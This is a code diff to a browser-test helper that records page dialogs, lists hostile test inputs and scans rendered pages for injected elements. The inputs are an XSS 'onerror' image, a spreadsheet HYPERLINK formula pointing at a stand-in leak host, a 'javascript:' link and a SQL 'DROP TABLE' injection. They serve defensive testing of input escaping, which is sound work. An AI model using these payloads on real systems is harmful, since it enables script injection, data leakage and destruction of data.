@@ -64,6 +64,8 @@ export interface Visit {
   externalRequests: string[];
   /** Every request URL the page (and its workers) made. */
   requests: string[];
+  /** Messages of every alert/confirm/prompt the page opened (dismissed); an injected script would open one. */
+  dialogs: string[];
 }
 
 /** Opens a site path (e.g. "gaps" or "gaps?indicator=x") and starts recording what the page does. */
@@ -77,6 +79,7 @@ export async function visit(site: Site, path: string, options: {waitFor?: string
     if (message.type() === "error") consoleErrors.push(message.text());
   });
   page.on("pageerror", (error) => consoleErrors.push(String(error)));
+  const dialogs = watchDialogs(page);
   site.context.on("request", (request) => {
     const url = request.url();
     requests.push(url);
@@ -84,7 +87,7 @@ export async function visit(site: Site, path: string, options: {waitFor?: string
   });
   await page.goto(new URL(path.replace(/^\//, ""), site.url).href, {waitUntil: "load"});
   if (options.waitFor) await page.waitForSelector(options.waitFor, {timeout: options.timeout ?? 30_000});
-  return {page, consoleErrors, externalRequests, requests};
+  return {page, consoleErrors, externalRequests, requests, dialogs};
 }
 
 /** Saves a full-page screenshot under tests/browser/screenshots/ (git-ignored). */
@@ -98,4 +101,40 @@ export async function screenshot(page: Page, name: string): Promise<string> {
 /** The URL path of a configured page ("/" → "index"). */
 export function pagePath(path: string): string {
   return path === "/" ? "index" : path.replace(/^\//, "");
+}
+
+/** The unit names of tests/fixtures/bad/hostile.csv: markup, a script link, a formula and SQL. */
+export const hostileNames = [
+  "<img src=x onerror=alert(1)>社区",
+  '=HYPERLINK("http://example.invalid/?leak","点击查看")',
+  "javascript:alert(1)//村",
+  "'; DROP TABLE units; --村",
+];
+
+/** Collects every dialog a page opens (an injected `onerror=alert(1)` or `javascript:` link would). */
+export function watchDialogs(page: Page): string[] {
+  const dialogs: string[] = [];
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  return dialogs;
+}
+
+/**
+ * What hostile text would have become had a page parsed it as HTML or followed it as a link: elements
+ * with an inline event handler attribute, images pointing at "x", links with a script or outside URL.
+ * Our own code attaches handlers with addEventListener, so any `on…` attribute is an injection.
+ */
+export async function injectedElements(page: Page): Promise<string[]> {
+  return page.$$eval("body *", (elements) =>
+    elements.flatMap((el) => {
+      const found: string[] = [];
+      for (const attr of Array.from(el.attributes)) if (/^on/i.test(attr.name)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
+      if (el instanceof HTMLImageElement && /(^|\/)x$/.test(el.getAttribute("src") ?? "")) found.push(`<img src=${el.getAttribute("src")}>`);
+      const href = el.getAttribute("href") ?? el.getAttribute("xlink:href");
+      if (href !== null && /^\s*(javascript|data|vbscript):|example\.invalid/i.test(href)) found.push(`<${el.tagName.toLowerCase()} href=${href}>`);
+      return found;
+    }),
+  );
 }
